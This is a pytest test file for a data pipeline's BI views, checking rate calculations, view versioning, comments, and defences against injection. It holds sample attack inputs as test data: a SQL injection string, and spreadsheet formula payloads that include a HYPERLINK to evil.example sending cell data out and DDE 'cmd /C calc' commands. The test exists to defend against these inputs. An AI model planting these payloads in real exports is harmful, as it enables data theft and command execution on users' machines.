"""BI views on both warehouses: names, day-level rates from sums, replaced only when changed."""

from __future__ import annotations

import math
from datetime import date, timedelta

import pyarrow as pa
import pytest

from outcome_pipeline.outcomes import OUTCOME_TABLES, RATES
from outcome_pipeline.serving import bi_view_sql, create_bi_views, views_version
from outcome_pipeline.warehouse import Warehouse
from outcome_pipeline.warehouse.warehouse import PartitionWrite

DAY = date(2024, 3, 1)


def rows(table: str, values: list[dict]) -> pa.Table:
    base = {"partition_date": DAY, "channel": "phone", "queue": "q", "team": "t", "segment": "s"}
    return pa.Table.from_pylist(
        [{**base, **v} for v in values], schema=OUTCOME_TABLES[table].arrow_schema
    )


def test_views_cover_every_rate_and_name_the_day() -> None:
    sql = bi_view_sql("outcome")
    assert set(sql) == {"bi_daily_outcomes", "bi_daily_summary", "bi_agent_output_vs_outcome"}
    for rate in [*RATES["daily_outcomes"], *RATES["daily_outputs"]]:
        assert f"AS {rate}" in sql["bi_daily_summary"], rate
    assert all("AS business_day" in s for s in sql.values())
    with pytest.raises(ValueError):
        bi_view_sql('outcome"; DROP TABLE x; --')


def test_day_summary_recomputes_rates_from_sums(warehouse: Warehouse) -> None:
    wh = warehouse
    wh.create_tables(list(OUTCOME_TABLES.values()))
    # Two teams: 1/1 and 1/3 resolved. The day's rate is 2/4, not the mean of rates (0.67).
    outcomes = rows(
        "daily_outcomes",
        [
            {
                "team": "a",
                "journeys_started": 1,
                "journeys_ended": 1,
                "resolved_journeys": 1,
                "contacts": 1,
                "repeat_contacts": 0,
                "nps_responses": 2,
                "nps_promoters": 2,
                "nps_detractors": 0,
                "is_final": True,
            },
            {
                "team": "b",
                "journeys_started": 3,
                "journeys_ended": 3,
                "resolved_journeys": 1,
                "contacts": 5,
                "repeat_contacts": 2,
                "nps_responses": 2,
                "nps_promoters": 0,
                "nps_detractors": 1,
                "is_final": False,
            },
        ],
    )
    outputs = rows(
        "daily_outputs",
        [{"legs_offered": 10, "legs_abandoned": 1}, {"legs_offered": 30, "legs_abandoned": 3}],
    )
    end = DAY + timedelta(days=1)
    wh.replace_partitions(
        [
            PartitionWrite(OUTCOME_TABLES["daily_outcomes"], DAY, end, outcomes),
            PartitionWrite(OUTCOME_TABLES["daily_outputs"], DAY, end, outputs),
        ]
    )
    with wh.begin() as conn:
        assert len(create_bi_views(conn, wh.schema, wh.dialect)) == 3
    (day,) = wh.query(f"SELECT * FROM {wh.qualified('bi_daily_summary')}").to_pylist()
    assert day["business_day"] == DAY
    assert (day["journeys_started"], day["journeys_ended"], day["legs_offered"]) == (4, 4, 40)
    assert math.isclose(day["resolution_rate"], 2 / 4)
    assert math.isclose(day["repeat_contact_rate"], 2 / 6)
    assert math.isclose(day["abandon_rate"], 4 / 40)
    assert math.isclose(day["nps"], 100 * (2 - 1) / 4)
    assert day["is_outcome_final"] is False  # one team's journeys are still open
    detail = wh.query(f"SELECT * FROM {wh.qualified('bi_daily_outcomes')} ORDER BY team")
    assert detail.num_rows == 2 and "fcr_rate" in detail.column_names
    with wh.begin() as conn:
        again = create_bi_views(conn, wh.schema, wh.dialect)
    # PostgreSQL: unchanged views are left alone (no exclusive lock while BI reads them).
    assert again == ([] if wh.dialect == "postgresql" else list(bi_view_sql(wh.schema)))


def test_version_changes_with_the_schema() -> None:
    assert views_version("a", "duckdb") != views_version("b", "duckdb")
    assert views_version("a", "duckdb") == views_version("a", "postgresql")  # one SQL


# Identifiers as sources deliver them: formulas (OWASP's CSV-injection examples) and plain text.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': "'",
    "+cmd|' /C calc'!A0": "'",
    "-2+3+cmd|' /C calc'!A0": "'",
    "-Support": "'",  # legitimate, neutralised all the same: shown as text, not hidden
    "@SUM(1+1)*cmd|' /C calc'!A0": "'",
    "\t=1+1": "'",
    "\r=1+1": "'",
    "AG-EXP-0003": "",
    "care=plus": "",  # only the first character counts
    "'already quoted": "",
}


def test_text_columns_are_neutralised_against_formula_injection(warehouse: Warehouse) -> None:
    wh = warehouse
    wh.create_tables(list(OUTCOME_TABLES.values()))
    table = OUTCOME_TABLES["daily_agent_output_vs_outcome"]
    values = [*HOSTILE, None]
    rows = pa.Table.from_pylist(
        [
            {"partition_date": DAY, "team": v, "agent_id": v, "resolution_gap": -0.25}
            for v in values
        ],
        schema=table.arrow_schema,
    )
    detail_rows = pa.Table.from_pylist(
        [
            {"partition_date": DAY, "channel": v, "queue": v, "team": v, "segment": v}
            for v in values
        ],
        schema=OUTCOME_TABLES["daily_outcomes"].arrow_schema,
    )
    end = DAY + timedelta(days=1)
    wh.replace_partitions(
        [
            PartitionWrite(table, DAY, end, rows),
            PartitionWrite(OUTCOME_TABLES["daily_outcomes"], DAY, end, detail_rows),
        ]
    )
    with wh.begin() as conn:
        create_bi_views(conn, wh.schema, wh.dialect)
    expected = {v: HOSTILE[v] + v for v in HOSTILE} | {None: None}
    shown = wh.query(
        f"SELECT team, agent_id, resolution_gap FROM {wh.qualified('bi_agent_output_vs_outcome')}"
    ).to_pylist()
    assert sorted(shown, key=str) == sorted(
        [{"team": expected[v], "agent_id": expected[v], "resolution_gap": -0.25} for v in values],
        key=str,
    )  # a negative number is a number: untouched
    detail = wh.query(
        f"SELECT channel, queue, team, segment FROM {wh.qualified('bi_daily_outcomes')}"
    ).to_pylist()
    assert sorted(detail, key=str) == sorted(
        [dict.fromkeys(("channel", "queue", "team", "segment"), expected[v]) for v in values],
        key=str,
    )
    # The tables keep the source's values (joins back to the source systems).
    raw = wh.query(f"SELECT agent_id FROM {wh.qualified(table.name)}").column(0).to_pylist()
    assert sorted(raw, key=str) == sorted(values, key=str)


def test_view_comments_say_what_a_row_is_without_a_code_tag(warehouse: Warehouse) -> None:
    wh = warehouse
    wh.create_tables(list(OUTCOME_TABLES.values()))
    with wh.begin() as conn:
        create_bi_views(conn, wh.schema, wh.dialect)
    if wh.dialect == "postgresql":
        sql = "SELECT obj_description(to_regclass(%(n)s), 'pg_class')"
        with wh.begin() as conn:
            comments = {
                v: conn.exec_driver_sql(sql, {"n": wh.qualified(v)}).scalar()
                for v in bi_view_sql(wh.schema)
            }
    else:
        got = wh.query(
            "SELECT view_name, comment FROM duckdb_views() "
            f"WHERE schema_name = '{wh.schema}' AND view_name LIKE 'bi_%'"
        ).to_pylist()
        comments = {r["view_name"]: r["comment"] for r in got}
    assert comments["bi_agent_output_vs_outcome"].startswith(
        "One row per business day x team x agent: handle time beside real resolution."
    )
    for view, comment in comments.items():
        assert comment.startswith("One row per"), (view, comment)
        assert "[" not in comment and "bi-views" not in comment, (view, comment)
        assert "docs/data_dictionary.md" in comment
